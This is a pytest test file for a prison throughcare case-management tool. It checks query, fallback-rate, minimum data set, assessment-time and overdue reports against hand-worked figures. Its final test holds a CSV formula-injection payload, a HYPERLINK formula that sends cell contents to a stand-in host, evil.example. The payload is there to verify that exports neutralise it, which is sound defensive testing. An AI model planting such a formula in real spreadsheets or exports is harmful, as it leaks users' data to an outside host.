"""Report figures against values worked out by hand on a small fixture, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlalchemy import insert, select

from throughcare import errors
from throughcare.cases import staff_members, store
from throughcare.db.engine import Database
from throughcare.db.models import (
    AuditEvent,
    ChecklistProgress,
    Client,
    ClosureReason,
    Episode,
    GuidanceQuery,
    ReferralRoute,
    ReviewMark,
    Role,
    Stage,
    StepStatus,
    week_of,
)
from throughcare.knowledge.loader import default_knowledge
from throughcare.protocol.engine import next_steps
from throughcare.reporting import reports, review

D = dt.date


def at(day: str, hour: int = 10) -> dt.datetime:
    return dt.datetime.combine(D.fromisoformat(day), dt.time(hour), tzinfo=dt.timezone.utc)


@pytest.fixture
def log(database: Database) -> tuple[Database, int, int]:
    a = staff_members.add_staff(database, "Ash", Role.practitioner, "Team X")
    b = staff_members.add_staff(database, "Bo", Role.practitioner, "Team Y")
    rows = [  # week of Mon 2 Nov: t1 twice, t2 once, one fallback; week of 9 Nov: t1 once, one fallback
        (at("2026-11-02"), a, "what is t1", "topic:t1", False),
        (at("2026-11-04"), a, "t1 again", "topic:t1", False),
        (at("2026-11-06"), b, "what is t2", "topic:t2", False),
        (at("2026-11-08", 23), b, "Wifi password", "nlu_fallback", True),
        (at("2026-11-09"), a, "  wifi PASSWORD ", "nlu_fallback", True),
        (at("2026-11-10"), b, "t1 once more", "topic:t1", False),
        (at("2026-11-16"), b, "outside the period", "topic:t2", False),
    ]
    database_rows = [
        dict(
            at=when,
            week=week_of(when),
            staff_id=who,
            text=text,
            topic=topic,
            fell_back=fell,
            action="a",
            intent=topic.split(":")[0],
        )
        for when, who, text, topic, fell in rows
    ]
    with database.transaction() as session:
        session.execute(insert(GuidanceQuery), database_rows)
    return database, a, b


NOVEMBER = reports.Period(D(2026, 11, 2), D(2026, 11, 15))


def test_queries_per_topic_per_week(log) -> None:  # type: ignore[no-untyped-def]
    db, a, _ = log
    everything = reports.queries_per_topic_per_week(db, reports.QueryFilter(NOVEMBER)).rows
    assert sorted(everything) == sorted(
        [
            (D(2026, 11, 2), "topic:t1", 2),
            (D(2026, 11, 2), "topic:t2", 1),
            (D(2026, 11, 2), "nlu_fallback", 1),
            (D(2026, 11, 9), "topic:t1", 1),
            (D(2026, 11, 9), "nlu_fallback", 1),
        ]
    )
    ash = reports.queries_per_topic_per_week(db, reports.QueryFilter(NOVEMBER, staff_id=a)).rows
    assert sorted(ash) == [(D(2026, 11, 2), "topic:t1", 2), (D(2026, 11, 9), "nlu_fallback", 1)]
    team_y = reports.queries_per_topic_per_week(db, reports.QueryFilter(NOVEMBER, team="Team Y", topic="topic:t1"))
    assert team_y.rows == [(D(2026, 11, 9), "topic:t1", 1)]


def test_fallback_rate_and_top_unanswered(log) -> None:  # type: ignore[no-untyped-def]
    db, _, _ = log
    assert reports.fallback_rate(db, reports.QueryFilter(NOVEMBER)).rows == [
        (D(2026, 11, 2), 4, 1, 25.0),
        (D(2026, 11, 9), 2, 1, 50.0),
    ]
    (top,) = reports.top_unanswered(db, reports.QueryFilter(NOVEMBER)).rows
    assert top[:2] == ("wifi password", 2)
    only_answered = reports.QueryFilter(NOVEMBER, fell_back=False)
    assert sum(r[2] for r in reports.queries_per_topic_per_week(db, only_answered).rows) == 4


def _episode(session, number: str, referral: str, ia=None, triage=None, released=None, community=None, arranged=None):  # type: ignore[no-untyped-def]
    episode = Episode(
        client=Client(prison_number=number, initials="XY"),
        referral_date=D.fromisoformat(referral),
        referral_route=ReferralRoute.self_referral,
        stage=Stage.closed
        if released
        else (Stage.in_treatment if triage else Stage.assessed if ia else Stage.referred),
        initial_assessment_date=D.fromisoformat(ia) if ia else None,
        triage_date=D.fromisoformat(triage) if triage else None,
        closure_reason=ClosureReason.release if released else None,
        closure_date=D.fromisoformat(released) if released else None,
        community_engagement_date=D.fromisoformat(community) if community else None,
    )
    session.add(episode)
    if arranged is not None:
        session.add(
            ChecklistProgress(
                episode=episode,
                procedure_id="release_planning",
                step_id="community_referral",
                status=arranged,
                reason=None if arranged == StepStatus.done else "client declined",
                by_staff_id=1,
            )
        )


@pytest.fixture
def cases(database: Database) -> Database:
    staff_members.add_staff(database, "Ash", Role.practitioner)
    with database.transaction() as session:
        _episode(session, "A1000AA", "2026-06-29", ia="2026-07-01", triage="2026-07-08")
        # Across the late May bank holiday (Mon 25 May): 5 working days, so within the 5-day timescale.
        _episode(session, "A2000AA", "2026-05-22", ia="2026-06-01")
        _episode(
            session,
            "A3000AA",
            "2026-03-02",
            ia="2026-03-04",
            triage="2026-03-10",
            released="2026-06-30",
            community="2026-07-03",
            arranged=StepStatus.done,
        )
        _episode(
            session,
            "A4000AA",
            "2026-01-05",
            ia="2026-01-14",
            triage="2026-01-21",
            released="2026-07-01",
            arranged=StepStatus.skipped,
        )
    return database


def test_the_minimum_data_set_either_side_of_the_half_year_boundary(cases: Database, knowledge) -> None:  # type: ignore[no-untyped-def]
    first = reports.minimum_data_set(cases, knowledge, reports.Period.parse("2026H1"))
    assert [row[1:] for row in first.rows] == [(4, ""), (3, ""), (2, 66.7), (1, 100.0), (1, 100.0)]
    second = reports.minimum_data_set(cases, knowledge, reports.Period.parse("2026-H2"))
    assert [row[1:] for row in second.rows] == [(0, ""), (1, ""), (1, 100.0), (0, 0.0), (0, 0.0)]
    assert all("004" in note for note in first.notes[1:])
    with pytest.raises(ValueError, match="half year"):
        reports.Period.parse("2026Q3")


def test_assessment_times_count_working_days(cases: Database, knowledge) -> None:  # type: ignore[no-untyped-def]
    rows = reports.assessment_times(cases, knowledge, reports.Period.parse("2026H1")).rows
    # Referral to IA: 5 (across the bank holiday), 2 and 7 working days; IA to triage: 4 and 5.
    assert rows == [
        ("referral to initial assessment", "5 working days", 3, 5.0, 66.7),
        ("initial assessment to triage", "10 working days", 2, 4.5, 100.0),
    ]


@pytest.mark.parametrize("today", [D(2026, 12, 2)], ids=["2026-12-02"])
def test_overdue_reports_match_the_engine_client_by_client(demo_database: Database, today: dt.date, knowledge) -> None:  # type: ignore[no-untyped-def]
    by_worker = {row[0]: row[2] for row in reports.overdue_by_worker(demo_database, today).rows}
    expected: dict[str, int] = {}
    for staff in staff_members.list_staff(demo_database):
        for facts in store.caseload(demo_database, staff.id):
            overdue = sum(1 for step in next_steps(facts, knowledge, today) if step.overdue)
            if overdue:
                expected[staff.display_name] = expected.get(staff.display_name, 0) + overdue
    assert {k: v for k, v in by_worker.items() if k != "(no key worker)"} == expected
    by_stage = reports.overdue_by_stage(demo_database, today).rows
    assert sum(row[2] for row in by_stage) == sum(by_worker.values())
    caseload = reports.caseload_by_stage_and_level(demo_database).rows
    with demo_database.transaction() as session:
        open_episodes = session.scalars(select(Episode).where(Episode.closure_date.is_(None))).all()
        assert sum(row[2] for row in caseload) == len(open_episodes)


def test_recording_an_assessment_updates_the_overdue_report_at_once(demo_database: Database, today: dt.date) -> None:
    before = sum(r[2] for r in reports.overdue_by_stage(demo_database, today).rows if r[1] == "initial_assessment")
    assert before >= 1
    with demo_database.transaction() as session:
        number = session.scalar(
            select(Client.prison_number)
            .join(Episode)
            .where(Episode.stage == Stage.referred)
            .order_by(Episode.referral_date)
        )
    store.record_event(demo_database, default_knowledge(), number, "initial_assessment", today, 1, today)
    after = sum(r[2] for r in reports.overdue_by_stage(demo_database, today).rows if r[1] == "initial_assessment")
    assert after == before - 1


def test_review_marks_gaps_and_exports_are_audited(log) -> None:  # type: ignore[no-untyped-def]
    db, a, _ = log
    page, total = review.logged_queries(db, reports.QueryFilter(NOVEMBER, fell_back=True))
    assert total == 2 and [q.text for q in page] == ["  wifi PASSWORD ", "Wifi password"]
    review.mark_query(db, page[0].id, ReviewMark.wrong_answer, "", a)
    review.mark_query(db, page[0].id, ReviewMark.knowledge_gap, "we should say who to ask", a)
    (gap,) = review.knowledge_gaps(db)
    assert gap.comment == "we should say who to ask" and gap.mark == ReviewMark.knowledge_gap
    assert "- intent: nlu_fallback\n  examples: |\n    - wifi PASSWORD\n" in review.gaps_as_nlu([gap])
    marked, total = review.logged_queries(db, reports.QueryFilter(NOVEMBER), mark=ReviewMark.knowledge_gap)
    assert total == 1 and marked[0].id == gap.id
    review.record_export(db, a, "mds", {"period": "2026H1"})
    with db.transaction() as session:
        actions = [(e.entity, e.action) for e in session.scalars(select(AuditEvent).order_by(AuditEvent.id))]
    assert actions[-3:] == [("query_review", "mark"), ("query_review", "mark"), ("export", "mds")]
    with pytest.raises(errors.CaseError):
        review.mark_query(db, 999_999, ReviewMark.answered_well, None, a)


def test_community_engagement_is_recorded_only_after_release(cases: Database, knowledge) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(errors.CaseError, match="isn't released"):
        store.record_event(
            cases, default_knowledge(), "A1000AA", "community_engagement", D(2026, 7, 9), 1, D(2026, 7, 10)
        )
    with pytest.raises(errors.CaseError, match="before the release"):
        store.record_event(
            cases, default_knowledge(), "A4000AA", "community_engagement", D(2026, 6, 30), 1, D(2026, 7, 10)
        )
    store.record_event(cases, default_knowledge(), "A4000AA", "community_engagement", D(2026, 7, 6), 1, D(2026, 7, 10))
    second = reports.minimum_data_set(cases, knowledge, reports.Period.parse("2026H2"))
    assert second.rows[-1][1:] == (1, 100.0)


def _unsigned(db: Database, *rows: tuple[dt.datetime, str, bool]) -> None:
    with db.transaction() as session:
        session.execute(
            insert(GuidanceQuery),
            [
                dict(
                    at=when,
                    week=week_of(when),
                    staff_id=None,
                    text=text,
                    topic="nlu_fallback",
                    fell_back=fell,
                    action="a",
                )
                for when, text, fell in rows
            ],
        )


def test_staff_figures_leave_unsigned_messages_out_and_show_them_apart(log) -> None:  # type: ignore[no-untyped-def]
    db, _, _ = log
    _unsigned(
        db,
        (at("2026-11-03"), "wifi password", True),
        (at("2026-11-03", 11), "wifi password", True),
        (at("2026-11-10"), "what is t1", False),
    )
    staff = reports.QueryFilter(NOVEMBER)
    # The staff figures are those of the staff-only log above, whatever unsigned traffic arrives.
    assert reports.fallback_rate(db, staff).rows == [(D(2026, 11, 2), 4, 1, 25.0), (D(2026, 11, 9), 2, 1, 50.0)]
    assert reports.top_unanswered(db, staff).rows[0][:2] == ("wifi password", 2)
    assert sum(r[2] for r in reports.queries_per_topic_per_week(db, staff).rows) == 6
    assert "Staff queries only" in reports.fallback_rate(db, staff).notes[-1]
    unsigned = reports.unsigned_queries(db, staff)
    assert unsigned.rows == [(D(2026, 11, 2), 2, 2), (D(2026, 11, 9), 1, 0)]
    assert unsigned.columns == ["week", "unsigned queries", "fell back"]
    everyone = reports.QueryFilter(NOVEMBER, signed=None)
    assert reports.fallback_rate(db, everyone).rows == [(D(2026, 11, 2), 6, 3, 50.0), (D(2026, 11, 9), 3, 1, 33.3)]
    assert reports.top_unanswered(db, reports.QueryFilter(NOVEMBER, signed=False)).rows[0][:2] == ("wifi password", 2)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    report = reports.Report("x", "x", ["question", "times asked"], [(text, 3), ("plain -dash inside", -1)])
    rows = list(csv.reader(io.StringIO(report.csv())))
    assert rows[1] == ["'" + text, "3"]
    # Text that only holds those characters later, and numbers (negative ones too), stay as they are.
    assert rows[2] == ["plain -dash inside", "-1"]
